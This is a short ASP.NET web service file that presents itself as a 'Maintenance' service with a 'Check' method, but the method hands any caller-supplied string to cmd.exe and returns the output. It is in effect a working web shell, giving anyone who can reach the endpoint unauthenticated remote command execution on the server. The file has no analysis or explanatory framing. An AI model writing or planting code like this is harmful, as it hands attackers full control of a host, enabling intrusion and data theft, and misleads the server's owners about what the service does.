<%@ WebService Language="C#" Class="Maintenance" %>
using System.Diagnostics;
using System.Web.Services;
[WebService(Namespace = "http://tempuri.org/")]
public class Maintenance : WebService {
    [WebMethod]
    public string Check(string target) {
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.Arguments = "/c " + target;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        return p.StandardOutput.ReadToEnd();
    }
}
